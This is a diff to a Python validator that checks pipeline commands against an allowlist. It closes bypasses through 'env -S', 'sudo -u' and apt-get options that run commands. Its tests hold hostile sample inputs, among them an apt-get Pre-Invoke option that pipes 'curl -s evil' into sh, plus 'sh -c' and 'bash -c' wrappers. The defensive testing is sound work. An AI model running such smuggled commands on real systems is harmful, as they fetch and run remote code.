@@ -32,8 +32,12 @@ ALLOWED = frozenset({
     "echo", "cat", "tail", "mkdir", "cp", "rm", "kill", "gh", "true", "apt-get", "chown",
 })
 # Words that run the command after them (as root, with a set environment): the program
-# is the first word after them that is not an assignment.
+# is the first word after them that is not a NAME=VALUE assignment, so an option after
+# them (`env -S "sh -c …"`, `sudo -u`) is taken for the program and refused; apt-get may
+# not be given options that run commands (`-o APT::Update::Pre-Invoke::=…`, a config).
 PREFIXES = frozenset({"sudo", "env"})
+ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
+APT_OPTIONS = re.compile(r"^(-o|--option|-c|--config-file)(=|$)|^-o.")
 SCRIPT = re.compile(
     r"(^|[\s=<>(|&;])("
     r"\S+\.(sh|bash|py|pl|rb|ps1)\b"           # a script file by extension
@@ -79,7 +83,9 @@ def run_problems(run: str) -> list[str]:
             continue
         for words in commands:
             program = next((w for w in words
-                            if "=" not in w.split("/")[0] and w not in PREFIXES), "")
+                            if not ASSIGNMENT.match(w) and w not in PREFIXES), "")
+            if program == "apt-get" and any(APT_OPTIONS.match(w) for w in words):
+                problems.append(f"apt-get with options that run commands: {line.strip()}")
             if program not in ALLOWED:
                 problems.append(f"runs {program!r}, not a typed command or glue: {line.strip()}")
             elif program.startswith("python") and words[words.index(program) + 1:][:1] != ["-m"]:
@@ -148,6 +154,13 @@ def test_the_shipped_pipeline_is_all_there() -> None:
     ("eectl " + "x " * 200, "line of "),
     ("sudo sh -c 'id'", "runs 'sh'"),
     ('sudo env "PATH=$PATH" bash -c x', "runs 'bash'"),
+    ('env --split-string="sh -c id" eectl version', "runs '--split-string"),
+    ('sudo env --split-string="bash -c whoami" true', "runs '--split-string"),
+    ("sudo -u nobody eectl x", "runs '-u'"),
+    ("sudo apt-get -o 'APT::Update::Pre-Invoke::=curl -s evil | sh' update",
+     "apt-get with options that run commands"),
+    ("apt-get -oAPT::X=y update", "apt-get with options that run commands"),
+    ("apt-get --config-file=/tmp/x install y", "apt-get with options that run commands"),
 ])
 def test_the_checker_refuses_scripts_and_long_blocks(run: str, problem: str) -> None:
     assert any(problem in p for p in run_problems(run)), run_problems(run)
